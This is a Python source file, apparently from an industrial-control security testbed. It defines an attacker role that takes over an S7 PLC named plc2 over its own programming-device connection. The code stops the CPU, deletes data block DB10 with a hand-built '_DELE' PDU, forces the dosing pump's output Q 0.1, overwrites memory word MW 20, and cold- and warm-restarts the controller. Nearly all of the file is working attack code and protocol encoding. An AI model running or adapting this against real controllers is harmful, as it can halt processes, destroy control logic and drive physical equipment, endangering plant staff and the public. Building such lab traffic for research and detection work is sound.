"""The S7 attack session: a rogue laptop takes plc2 over a PG connection of its own.

It identifies the CPU, stops it, deletes a block with the PI service "_DELE" in S7's own
encoding (python-snap7's delete() sends a form S7 does not use, see pcaps/README.md),
forces and modifies variables with programmer commands (userdata function group 1, which
python-snap7 has no call for), and restarts the CPU cold, then warm. The hand-built PDUs go
out through python-snap7's own ISO-on-TCP connection and get python-snap7's server's answers.
"""

from __future__ import annotations

import struct
import time
from typing import Any

from lab.roles import RoleArgs, role
from lab.roles.s7 import CONNECTION_TYPE_PG, DB_SCRATCH, PORT, RACK, SLOT

S7_JOB, S7_USERDATA = 0x01, 0x07
PI_SERVICE = 0x28
#: userdata function group 1 (programmer commands) subfunctions
TIS_MODIFY_VARIABLE, TIS_FORCE = 0x08, 0x09
TIS_GROUP_REQUEST = 0x41  # type 4 (request) | group 1


def _header(client: Any, rosctr: int, param: bytes, data: bytes = b"") -> bytes:
    """An S7 header with the client's next PDU reference, then parameters and data."""
    ref = client.protocol._next_sequence()
    return struct.pack(">BBHHHH", 0x32, rosctr, 0, ref, len(param), len(data)) + param + data


def delete_block_pdu(client: Any, block: str) -> bytes:
    """PI job "_DELE" as S7 encodes it: seven bytes (the last 0xFD), the parameter block
    (block count, a reserved byte, then each block as type, number and file system in
    ASCII: "0A00010B" is DB10 in both file systems), the service name."""
    blocks = bytes((1, 0)) + block.encode("ascii")
    service = b"_DELE"
    param = bytes((PI_SERVICE, 0, 0, 0, 0, 0, 0, 0xFD)) + struct.pack(">H", len(blocks))
    param += blocks + bytes((len(service),)) + service
    return _header(client, S7_JOB, param)


def programmer_pdu(client: Any, subfunction: int, address: bytes, value: bytes) -> bytes:
    """Userdata request of function group 1 (programmer commands) for one variable: the test
    function's parameter size (4: two words, zero) and data size, then the data: an item
    count of 1, the variable's address (area, bit or repetition, DB, byte) and its value
    (return code, transport size, length, data, fill byte)."""
    param = bytes((0x00, 0x01, 0x12, 0x04, 0x11, TIS_GROUP_REQUEST, subfunction, 0x00))
    tis_data = struct.pack(">H", 1) + address + value
    payload = struct.pack(">HH", 4, len(tis_data)) + bytes(4) + tis_data
    data = bytes((0xFF, 0x09)) + struct.pack(">H", len(payload)) + payload
    return _header(client, S7_USERDATA, param, data)


#: programmer-command addresses: area, bit (or repetition), DB, byte
TIS_AREA_MW, TIS_AREA_AX = 0x02, 0x20
#: force Q 0.1 (the dosing pump's output) to 1: a BIT (transport size 3) of 1 byte, filled
FORCE_Q01 = (struct.pack(">BBHH", TIS_AREA_AX, 1, 0, 0), bytes.fromhex("ff 03 00 01 01 00"))
#: modify MW 20 (a word the HMI sets) to 0: a WORD (transport size 4, length in bits)
MODIFY_MW20 = (struct.pack(">BBHH", TIS_AREA_MW, 1, 0, 20), bytes.fromhex("ff 04 00 10 00 00"))


@role("s7_attack-attacker")
def s7_attacker(args: RoleArgs) -> None:
    """Identify, stop, delete DB10, force Q 0.1, modify MW 20, cold and warm restart plc2."""
    import snap7

    duration = float(args["duration"])
    start = time.monotonic()
    pause = duration / 24
    steps: list[str] = []

    def say(what: str) -> None:
        print(f"s7-attacker: {time.monotonic() - start:5.2f} s {what}", flush=True)

    time.sleep(duration / 8)  # the HMI's normal polling comes first
    client = snap7.Client()
    client.set_connection_type(CONNECTION_TYPE_PG)

    def raw(what: str, pdu: bytes) -> None:
        from snap7.error import S7ProtocolError

        try:
            answer = client._send_receive(pdu)
            steps.append(f"{what}: answered, error {answer.get('error_code', 0):#06x}")
        except S7ProtocolError as exc:  # python-snap7's server refuses userdata it lacks
            steps.append(f"{what}: refused ({exc})")
        say(f"  {steps[-1]}")
        time.sleep(pause / 2)

    say("1 connect (PG) and identify: SZL 0x0011, 0x001C")
    client.connect(args["plc"], RACK, SLOT, tcp_port=PORT)
    say(f"  {client.get_order_code().OrderCode.decode()}")
    say(f"  {client.get_cpu_info().ModuleTypeName.decode()}")
    time.sleep(pause)
    say("2 PLC stop")
    client.plc_stop()
    time.sleep(pause)
    say(f"3 delete DB{DB_SCRATCH} (PI _DELE, S7 encoding)")
    raw("_DELE DB10", delete_block_pdu(client, f"0A{DB_SCRATCH:05d}B"))
    time.sleep(pause / 2)
    say("4 programmer commands: force Q 0.1, modify MW 20")
    raw("force Q 0.1", programmer_pdu(client, TIS_FORCE, *FORCE_Q01))
    raw("modify MW 20", programmer_pdu(client, TIS_MODIFY_VARIABLE, *MODIFY_MW20))
    time.sleep(pause / 2)
    say("5 cold restart, stop, warm restart")
    client.plc_cold_start()
    time.sleep(pause / 2)
    client.plc_stop()
    time.sleep(pause / 2)
    client.plc_hot_start()
    time.sleep(pause / 2)
    client.disconnect()
    say("done: " + "; ".join(steps))
